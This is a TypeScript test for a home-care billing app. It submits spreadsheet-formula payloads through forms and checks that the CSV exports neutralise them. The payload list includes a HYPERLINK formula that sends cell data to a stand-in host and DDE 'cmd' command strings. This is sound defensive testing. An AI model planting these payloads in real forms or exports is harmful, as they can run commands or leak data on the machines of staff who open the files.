import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { makeInvoice } from '../../modules/billing/invoices/invoice.factory.ts';
import { makePayment } from '../../modules/billing/payments/payment.factory.ts';
import { makeUser } from '../../modules/identity/user.factory.ts';
import { testApp, type TestApp } from '../../testing/app.ts';
import { exportTables } from './exportTables.ts';

/* Sends formulas through the forms as anyone could, and exports them as the office does. */
let app: TestApp;
let folder: string;
beforeAll(async () => {
  app = await testApp();
  folder = join(await mkdtemp(join(tmpdir(), 'home-care-cells-')), 'out');
});
afterAll(async () => {
  await app?.stop();
  await rm(join(folder, '..'), { recursive: true, force: true });
});

const hostile = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=1+1',
  '＝1+1',
  '\u00a0=1+1',
  '"=1+1"',
  '"\n=1+1',
];

/** What a spreadsheet treats as a formula at the start of a cell. */
const runs = /^[\s"]*[=+\-@＝＋－＠\t\r]/;
const aNumber = /^-?\d+(\.\d+)?$/;

it('no form can put a formula into files that the office opens', async () => {
  const staff = await app.services.sessions.open(
    (await makeUser(app.database.orm.em.fork(), { role: 'staff' })).id,
  );
  for (const [index, text] of hostile.entries()) {
    const name = text.slice(0, 100);
    const contact = await app.graph<{ submitContactInquiry: { userErrors: unknown[] } }>(
      'mutation ($input: SubmitContactInquiryInput!) { submitContactInquiry(input: $input) { userErrors { message } } }',
      {
        input: {
          firstName: name,
          lastName: name,
          email: `c${index}@example.com`,
          message: `${text} ; ${text};=1+1\t=1+1\n=1+1`,
        },
      },
    );
    expect(contact.data.submitContactInquiry.userErrors).toEqual([]);
    const admitted = await app.graph<{
      admitClient: { client: { id: string }; userErrors: unknown[] };
    }>(
      'mutation ($input: AdmitClientInput!) { admitClient(input: $input) { client { id } userErrors { message } } }',
      {
        input: {
          firstName: name,
          lastName: name,
          email: `a${index}@example.com`,
          address: text,
          medicalNotes: text,
          careNotes: text,
        },
      },
      staff,
    );
    expect(admitted.data.admitClient.userErrors).toEqual([]);
    const written = await app.graph<{ writeCareUpdate: { userErrors: unknown[] } }>(
      'mutation ($input: WriteCareUpdateInput!) { writeCareUpdate(input: $input) { userErrors { message } } }',
      {
        input: {
          clientId: admitted.data.admitClient.client.id,
          updateType: name,
          title: text,
          content: text,
        },
      },
      staff,
    );
    expect(written.data.writeCareUpdate.userErrors).toEqual([]);
  }
  const invoice = await makeInvoice(app.database.orm.em.fork(), {
    items: [{ quantity: '1.00', rate: '12.50', serviceDescription: hostile[0] }],
  });
  await makePayment(app.database.orm.em.fork(), { invoice, amount: '-12.50', reason: hostile[2] });

  const files = await exportTables(app.database, folder);
  let seen = 0;
  for (const { name } of files) {
    const text = await readFile(join(folder, name), 'utf8');
    for (const cell of (parse(text, { bom: true }) as unknown as string[][]).flat())
      if (!aNumber.test(cell))
        expect([name, cell]).toEqual([name, expect.not.stringMatching(runs)]);
    seen += hostile.filter((formula) => text.includes(formula.replaceAll('"', '""').trim())).length;
  }
  expect(seen).toBeGreaterThan(3 * hostile.length);
  const [payment] = parse(await readFile(join(folder, 'payments.csv')), {
    bom: true,
    columns: true,
  }) as unknown as { amount: string; reason: string }[];
  expect(payment).toMatchObject({ amount: '-12.50', reason: `'${hostile[2]}` });
});
